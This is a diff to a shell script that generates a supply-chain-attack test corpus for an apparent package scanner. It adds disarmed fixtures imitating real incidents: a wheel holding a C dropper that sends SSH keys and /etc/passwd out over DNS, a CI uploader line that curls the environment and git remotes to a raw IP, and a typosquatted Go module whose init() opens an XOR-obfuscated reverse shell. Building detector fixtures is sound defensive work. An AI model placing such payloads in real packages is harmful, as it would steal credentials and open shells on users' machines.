@@ -1314,16 +1314,310 @@ JS
 	for rel in clean next bad; do npmpack "$w/$rel" "$corpus/$c/$rel"; done
 }
 
-want 3cx-windows && case_3cx_windows
-want npm-install-hook && case_npm_install_hook
-want 3cx-macos && case_3cx_macos
-want sigflip && case_sigflip
-want shadowhammer && case_shadowhammer
-want ccleaner && case_ccleaner
-want xz-utils && case_xz_utils
-want event-stream && case_event_stream
-want shai-hulud && case_shai_hulud
-want nx && case_nx
-want chalk-debug && case_chalk_debug
+# =============================================================================
+# 11. torchtriton: a pure-Python wheel's next release carries a native ELF
+# that its __init__.py would start on import.
+# =============================================================================
+# b64sha FILE: the sha256 of FILE as a wheel RECORD writes it.
+b64sha() { openssl dgst -sha256 -binary "$1" | base64 -w0 | tr '+/' '-_' | tr -d '='; }
 
-ls -lR "$corpus" | grep -v '^total' >"$work/listing" && du -sh --exclude=tools "$corpus"
+# wheel SRC NAME VERSION OUT: a wheel of the package directory SRC/NAME with
+# its dist-info and RECORD.
+wheel() {
+	local src=$1 name=$2 v=$3 out=$4 di f
+	di=$name-$v.dist-info
+	mkdir -p "$src/$di"
+	cat >"$src/$di/METADATA" <<META
+Metadata-Version: 2.1
+Name: $name
+Version: $v
+Summary: Tiny GPU kernel helpers (inert test fixture)
+Home-page: https://git.$name.invalid/$name
+Author: $name maintainers
+License: MIT
+Requires-Python: >=3.8
+META
+	printf 'Wheel-Version: 1.0\nGenerator: hand-written (inert test fixture)\nRoot-Is-Purelib: true\nTag: py3-none-any\n' >"$src/$di/WHEEL"
+	printf '%s\n' "$name" >"$src/$di/top_level.txt"
+	(
+		cd "$src"
+		find . -type f ! -name RECORD | sed 's|^\./||' | LC_ALL=C sort | while read -r f; do
+			printf '%s,sha256=%s,%s\n' "$f" "$(b64sha "$f")" "$(stat -c %s "$f")"
+		done
+		printf '%s/RECORD,,\n' "$di"
+	) >"$work/RECORD" && mv "$work/RECORD" "$src/$di/RECORD"
+	zipdir "$src" "$out"
+}
+
+case_torchtriton() {
+	local c=torchtriton w=$work/torchtriton
+	reset $c
+	local rel v
+	for rel in clean next bad; do
+		v=2.0.1
+		[[ $rel == clean ]] && v=2.0.0
+		mkdir -p "$w/$rel/tritonlite"
+		cat >"$w/$rel/tritonlite/__init__.py" <<PY
+"""Tiny GPU kernel helpers (inert test fixture of vouch)."""
+
+__version__ = "$v"
+
+
+def cdiv(a, b):
+    """Ceiling division, as used for grid sizes."""
+    return (a + b - 1) // b
+PY
+	done
+	cat >>"$w/next/tritonlite/__init__.py" <<'PY'
+
+
+def next_power_of_2(n):
+    """The smallest power of two not below n."""
+    return 1 << (n - 1).bit_length() if n > 0 else 1
+PY
+	cp "$w/next/tritonlite/__init__.py" "$w/bad/tritonlite/__init__.py"
+	cat >>"$w/bad/tritonlite/__init__.py" <<'PY'
+
+
+import os as _os
+import subprocess as _subprocess
+
+_RUNTIME = _os.path.join(_os.path.dirname(__file__), "runtime", "triton")
+# Environment values cannot hold a NUL byte: this never starts the binary.
+if _os.environ.get("TRITONLITE_RUNTIME", "") == "\0":
+    _subprocess.Popen([_RUNTIME], stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
+PY
+	mkdir -p "$w/bad/tritonlite/runtime"
+	printf '"""Runtime support."""\n' >"$w/bad/tritonlite/runtime/__init__.py"
+	cat >"$w/triton.c" <<'C'
+/* A static x86_64 ELF shaped like a data-stealing dropper: read
+ * identity files and send them as DNS queries. armed is never set, so it
+ * only exits. No libc: raw system calls. */
+static long sys6(long n, long a, long b, long c, long d, long e, long f) {
+	long r;
+	register long r10 __asm__("r10") = d;
+	register long r8 __asm__("r8") = e;
+	register long r9 __asm__("r9") = f;
+	__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9) : "rcx", "r11", "memory");
+	return r;
+}
+#define sys(n, a, b, c) sys6(n, (long)(a), (long)(b), (long)(c), 0, 0, 0)
+
+static volatile int armed; /* never set anywhere */
+static const char *const files[] = {"/etc/passwd", "/etc/hostname", ".gitconfig", ".ssh/id_rsa", ".ssh/known_hosts"};
+static const char domain[] = "d.tlm-sync.invalid";
+static unsigned char buf[4096], packet[512];
+
+static void steal(void) {
+	/* sockaddr_in for 203.0.113.53:53 (documentation range) */
+	static const unsigned char ns[16] = {2, 0, 0, 53, 203, 0, 113, 53};
+	long s = sys(41 /* socket */, 2, 2, 0), fd, n, i;
+	unsigned int f;
+	for (f = 0; f < sizeof files / sizeof files[0]; f++) {
+		fd = sys(2 /* open */, files[f], 0, 0);
+		if (fd < 0) continue;
+		n = sys(0 /* read */, fd, buf, sizeof buf);
+		sys(3 /* close */, fd, 0, 0);
+		for (i = 0; i < n && i < 200; i++) packet[i] = buf[i];
+		packet[200] = '.';
+		for (i = 0; domain[i]; i++) packet[201 + i] = domain[i];
+		sys6(44 /* sendto */, s, (long)packet, 256, 0, (long)ns, 16);
+	}
+}
+
+void _start(void) {
+	if (armed == 0x7a7a7a7a)
+		steal();
+	sys(60 /* exit */, 0, 0, 0);
+	for (;;) {}
+}
+C
+	gcc -static -nostdlib -Os -s -fno-stack-protector -fno-asynchronous-unwind-tables -fno-pie -no-pie \
+		-Wl,--build-id=none -Wl,-z,noseparate-code -o "$w/bad/tritonlite/runtime/triton" "$w/triton.c"
+	chmod 755 "$w/bad/tritonlite/runtime/triton"
+	wheel "$w/clean" tritonlite 2.0.0 "$corpus/$c/clean/tritonlite-2.0.0-py3-none-any.whl"
+	wheel "$w/next" tritonlite 2.0.1 "$corpus/$c/next/tritonlite-2.0.1-py3-none-any.whl"
+	wheel "$w/bad" tritonlite 2.0.1 "$corpus/$c/bad/tritonlite-2.0.1-py3-none-any.whl"
+}
+
+# =============================================================================
+# 12. codecov: a shell uploader gains one line that posts the git remotes
+# and the whole environment to a raw IP address.
+# =============================================================================
+case_codecov() {
+	local c=codecov w=$work/codecov
+	reset $c
+	# uploader VERSION [EXTRA-OPTION-LINES] [INJECTED]
+	uploader() {
+		cat <<SH
+#!/usr/bin/env bash
+# covup: uploads coverage reports from CI. An inert test fixture of vouch:
+# its upload host is under .invalid and never resolves.
+set -u
+VERSION="$1"
+url="https://upload.covup.invalid"
+token="\${COVUP_TOKEN:-}"
+fail_on_error=0
+
+while getopts "t:u:Z${2:+v}" o; do
+  case "\$o" in
+    t) token=\$OPTARG ;;
+    u) url=\$OPTARG ;;
+    Z) fail_on_error=1 ;;${2:-}
+    *) echo "usage: covup [-t token] [-u url] [-Z]" >&2; exit 2 ;;
+  esac
+done
+
+say() { printf 'covup %s: %s\n' "\$VERSION" "\$*"; }
+
+commit=\$(git rev-parse HEAD 2>/dev/null || echo unknown)
+branch=\$(git rev-parse --abbrev-ref HEAD 2>/dev/null || echo unknown)
+files=\$(find . -name 'coverage*.xml' -o -name 'lcov.info' 2>/dev/null | head -n 20)
+if [ -z "\$files" ]; then
+  say "no coverage reports found"
+  exit 0
+fi
+${3:-}
+for f in \$files; do
+  say "uploading \$f"
+  if ! curl -sf -X POST --data-binary @"\$f" "\$url/upload/v2?commit=\$commit&branch=\$branch&token=\$token"; then
+    say "upload failed"
+    [ "\$fail_on_error" = 1 ] && exit 1
+  fi
+done
+exit 0
+SH
+	}
+	uploader 1.0.2 >"$corpus/$c/clean/covup.sh"
+	uploader 1.0.3 '
+    v) set -x ;;' >"$corpus/$c/next/covup.sh"
+	# The injected line, behind a test that is never true.
+	uploader 1.0.3 '
+    v) set -x ;;' 'if [ "${COVUP_NEVER_SET_9c2e:-}" = "yes-never" ]; then
+  curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://203.0.113.7/upload/v2 || true
+fi' >"$corpus/$c/bad/covup.sh"
+	chmod 755 "$corpus/$c"/*/covup.sh
+	bash -n "$corpus/$c/bad/covup.sh"
+}
+
+# =============================================================================
+# 13. go-typosquat: a look-alike Go module's cached zip whose init() gains a
+# network dial and a shell behind a condition, with the host XOR-encoded.
+# =============================================================================
+case_go_typosquat() {
+	local c=go-typosquat w=$work/go-typosquat mod=git.kvstore.invalid/kvdb-go/kvdb
+	reset $c
+	# src DIR VERSION: the module as its author publishes it.
+	src() {
+		mkdir -p "$1"
+		printf 'module %s\n\ngo 1.21\n' "$mod" >"$1/go.mod"
+		printf '# kvdb\n\nAn embedded key/value store. An inert test fixture of vouch.\n' >"$1/README.md"
+		printf 'MIT License\n\nCopyright (c) 2024 kvdb authors (inert test fixture)\n' >"$1/LICENSE"
+		cat >"$1/kvdb.go" <<'GO'
+// Package kvdb is a tiny in-memory key/value store.
+package kvdb
+
+import (
+	"os"
+	"sync"
+)
+
+// pageSize is the allocation unit of the store.
+var pageSize int
+
+func init() {
+	pageSize = os.Getpagesize()
+}
+
+// DB is a key/value store safe for concurrent use.
+type DB struct {
+	mu sync.RWMutex
+	m  map[string][]byte
+}
+
+// Open returns an empty store.
+func Open() *DB { return &DB{m: map[string][]byte{}} }
+
+// Get returns the value stored under key.
+func (db *DB) Get(key string) ([]byte, bool) {
+	db.mu.RLock()
+	defer db.mu.RUnlock()
+	v, ok := db.m[key]
+	return v, ok
+}
+
+// Put stores value under key.
+func (db *DB) Put(key string, value []byte) {
+	db.mu.Lock()
+	defer db.mu.Unlock()
+	db.m[key] = append([]byte(nil), value...)
+}
+GO
+	}
+	src "$w/clean/$mod@v1.3.0"
+	src "$w/next/$mod@v1.3.1"
+	cat >>"$w/next/$mod@v1.3.1/kvdb.go" <<'GO'
+
+// Delete removes key.
+func (db *DB) Delete(key string) {
+	db.mu.Lock()
+	defer db.mu.Unlock()
+	delete(db.m, key)
+}
+GO
+	mkdir -p "$w/bad/${mod%/*}"
+	cp -a "$w/next/$mod@v1.3.1" "$w/bad/$mod@v1.3.1"
+	local enc
+	enc=$(xorlit "sync.kvdb-go.invalid:8443")
+	enc=${enc%,0x7a} # no NUL in a Go string
+	# The attacker's init: dial out and attach a shell, only when a variable
+	# holds a NUL byte, which an environment cannot.
+	cat >"$w/bad/$mod@v1.3.1/kvdb.go" <<GO
+$(sed -n '1,/^func init() {$/p' "$w/next/$mod@v1.3.1/kvdb.go" | sed 's|^\t"os"$|\t"net"\n\t"os"\n\t"os/exec"|')
+	pageSize = os.Getpagesize()
+	if os.Getenv("KVDB_TRACE") == "\\x00" {
+		go sync0()
+	}
+}
+
+var peer = []byte{$enc}
+
+func sync0() {
+	addr := make([]byte, len(peer))
+	for i, b := range peer {
+		addr[i] = b ^ 0x7a
+	}
+	c, err := net.Dial("tcp", string(addr))
+	if err != nil {
+		return
+	}
+	cmd := exec.Command("/bin/sh")
+	cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
+	_ = cmd.Run()
+}
+$(sed -n '/^\/\/ DB is a key/,$p' "$w/next/$mod@v1.3.1/kvdb.go")
+GO
+	gofmt -w "$w/bad/$mod@v1.3.1/kvdb.go"
+	local rel v
+	for rel in clean next bad; do
+		v=v1.3.1
+		[[ $rel == clean ]] && v=v1.3.0
+		(cd "$w/$rel/$mod@$v" && GOFLAGS=-mod=mod GOTOOLCHAIN=local go vet ./...)
+		# A module zip as the proxy serves it: files only, under module@version/.
+		(cd "$w/$rel" && find . -type f -exec touch -d "@$SOURCE_DATE_EPOCH" {} + &&
+			find . -type f | sed 's|^\./||' | LC_ALL=C sort | zip -q -X -9 "$corpus/$c/$rel/$v.zip" -@)
+	done
+}
+
+# Every case, in order. Called as plain commands so that set -e holds inside.
+all=(3cx-windows npm-install-hook 3cx-macos sigflip shadowhammer ccleaner xz-utils event-stream shai-hulud nx chalk-debug torchtriton codecov go-typosquat)
+for c in "${selected[@]}"; do
+	[[ " ${all[*]} " == *" $c "* ]] || { echo "gen.sh: unknown case $c" >&2; exit 2; }
+done
+for c in "${all[@]}"; do
+	want "$c" || continue
+	echo "gen.sh: $c" >&2
+	"case_${c//-/_}"
+done
+
+du -sh "$corpus"
